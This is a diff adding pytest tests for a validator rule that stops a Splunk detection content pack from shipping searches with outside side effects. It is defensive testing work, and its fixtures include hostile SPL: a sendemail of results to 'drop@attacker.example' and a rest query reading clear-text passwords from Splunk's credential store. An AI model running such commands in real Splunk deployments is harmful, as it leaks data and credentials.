@@ -1,0 +1,135 @@
+"""CP085: no search of the pack runs a command whose work is done outside the search (mail, an index, a lookup, a
+file, deleted events, a script, an alert action, Splunk's REST API). The app's correlation searches run on a
+schedule as its owner; a contributed ``| sendemail to=...`` validated and was built into savedsearches.conf."""
+
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+
+import pytest
+
+from contentpack.content.diagnostics import Diagnostic
+from contentpack.content.rules import RuleContext, side_effects
+from contentpack.esapp.builder import build
+from contentpack.spl.parser import command_words
+
+from .helpers import TTP, Validate, add_command, at, call_macro_in_two_searches, define_macro, edit, locate
+from .test_spl_checks import escu_pack
+
+
+def _cp085(pack: Path, validate: Validate) -> list[Diagnostic]:
+    return [d for d in validate(pack).diagnostics if d.rule == "CP085"]
+
+
+def test_sendemail_at_the_end_of_a_search_is_an_error_at_the_command(pack: Path, validate: Validate) -> None:
+    add_command(pack, 'sendemail to="drop@attacker.example" sendresults=true')
+    result = validate(pack)
+    found = [d for d in result.diagnostics if d.rule == "CP085"]
+    line, col = locate(pack, TTP, "sendemail")
+    assert [at(d) for d in found] == [(TTP, line, col)]
+    assert not result.ok and found[0].severity == "error"
+    assert found[0].message == (
+        "'sendemail' in detection 'Entra ID User Declined Consent For OAuth App' sends the results by email: a "
+        "search of the app must change and reveal nothing outside its own results (a correlation search runs on a "
+        "schedule as the app's owner, a drilldown as the analyst who opens it); remove the command")
+
+
+@pytest.mark.parametrize(("command", "name"), [
+    ("outputlookup append=true identity_lookup_expanded", "outputlookup"),
+    ("collect index=risk", "collect"),
+    ("delete", "delete"),
+    ("script python beacon", "script"),
+    ("sendalert risk param._risk_score=100", "sendalert"),
+    ("outputcsv out", "outputcsv"),
+    ("tscollect namespace=x", "tscollect"),
+    ("appendpipe [| rest /services/storage/passwords | table clear_password]", "rest"),
+    ("join type=left user [rest /services/authentication/users | rename title as user]", "rest"),
+    ("foreach * [| sendemail to=x@attacker.example]", "sendemail"),
+    ('map maxsearches=1 search="| makeresults | collect index=main"', "collect"),
+    ("SENDEMAIL to=x@attacker.example", "sendemail"),
+])
+def test_each_such_command_is_found_wherever_it_runs(pack: Path, validate: Validate, command: str,
+                                                      name: str) -> None:
+    add_command(pack, command)
+    found = _cp085(pack, validate)
+    assert len(found) == 1 and found[0].message.startswith(f"'{name}' in detection "), found
+    line, col = locate(pack, TTP, f"| {command}")
+    col += 2
+    col += command.find(name if name in command else name.upper())
+    assert at(found[0]) == (TTP, line, col)
+
+
+@pytest.mark.parametrize("command", [
+    'eval note="| sendemail to=x"',  # a string, not a command
+    "search delete OR collect",  # terms of the search command
+    "join user [search Operation=delete | fields user]",  # a subsearch's implicit search
+    "appendpipe [sendemail | fields user]",  # no pipe: the terms of an implicit search, sendemail generates nothing
+    "eval outputlookup=1, rest=2",  # field names
+])
+def test_the_words_as_text_are_not_commands(pack: Path, validate: Validate, command: str) -> None:
+    add_command(pack, command)
+    assert _cp085(pack, validate) == []
+
+
+def test_a_drilldown_is_judged_too(pack: Path, validate: Validate) -> None:
+    edit(pack, TTP, 'search  user = "$user$"', 'search  user = "$user$" | sendemail to="$user$"')
+    found = _cp085(pack, validate)
+    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "sendemail"))]
+    assert "'sendemail' in drilldown 1 of detection 'Entra ID User Declined Consent For OAuth App'" in found[0].message
+
+
+def test_a_macro_writing_one_is_reported_once_in_its_own_file(pack: Path, validate: Validate) -> None:
+    call_macro_in_two_searches(pack, "entra_id_tidy", "outputlookup append=true known_apps.csv")
+    found = _cp085(pack, validate)
+    macro = "macros/entra_id_tidy.yml"
+    assert [at(d) for d in found] == [(macro, *locate(pack, macro, "outputlookup"))]
+    assert found[0].message.startswith("'outputlookup' in macro 'entra_id_tidy' writes the results to a lookup")
+
+
+def test_an_argument_bringing_one_is_reported_at_the_call(pack: Path, validate: Validate) -> None:
+    define_macro(pack, "entra_id_then", "fields * | $next$", ("next",))
+    add_command(pack, "`entra_id_then(delete)`")
+    found = _cp085(pack, validate)
+    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "`entra_id_then"))]
+    assert found[0].message.endswith(", inside the expansion of macro `entra_id_then`")
+
+
+def test_the_fixture_pack_has_none(pack: Path, validate: Validate) -> None:
+    assert _cp085(pack, validate) == []
+
+
+def test_build_refuses_the_pack_and_writes_no_app(pack: Path, tmp_path: Path) -> None:
+    """What the finding is for: ``build`` shipped the command in default/savedsearches.conf."""
+    add_command(pack, 'sendemail to="drop@attacker.example"')
+    report = build(pack, tmp_path / "dist", environ={"SOURCE_DATE_EPOCH": "1764000000"})
+    assert not report.ok and [d.rule for d in report.diagnostics if d.severity == "error"] == ["CP085"]
+    assert not (tmp_path / "dist").exists()
+
+
+def test_command_words_reads_the_text_not_the_engine() -> None:
+    text = 'x | foreach * [| sendemail to=y] | map search="search a | delete" | eval b="| collect"'
+    words = [(w.name, text[w.offset:w.offset + len(w.name)], w.piped) for w in command_words(text)]
+    assert words == [("foreach", "foreach", True), ("sendemail", "sendemail", True), ("map", "map", True),
+                     ("search", "search", False), ("delete", "delete", True), ("eval", "eval", True)]
+
+
+def test_a_map_search_holding_escapes_is_placed_at_its_quote() -> None:
+    text = r'x | map search="search a=\"b\" | delete"'
+    [_, _, delete] = command_words(text)
+    assert delete.name == "delete" and text[delete.offset] == '"'
+
+
+@pytest.mark.slow
+def test_escu_runs_none_but_its_four_baselines_outputlookup() -> None:
+    """What CP085 refuses in ESCU's 1,870 detections (a063ed3): only the four baseline searches that keep their
+    own state with ``outputlookup``, not the detections running ``map`` searches or naming the words as text."""
+    pack = escu_pack()
+    context = RuleContext(pack, Path("/nonexistent"), dt.date(2026, 12, 1), frozenset(), None)
+    findings = list(side_effects.side_effects(context))
+    assert sorted((d.position.path.rsplit("/", 1)[-1], d.message.split("'")[1]) for d in findings) == [
+        ("detect_gcp_storage_access_from_a_new_ip.yml", "outputlookup"),
+        ("detect_s3_access_from_a_new_ip.yml", "outputlookup"),
+        ("detect_spike_in_blocked_outbound_traffic_from_your_aws.yml", "outputlookup"),
+        ("detect_spike_in_s3_bucket_deletion.yml", "outputlookup"),
+    ]
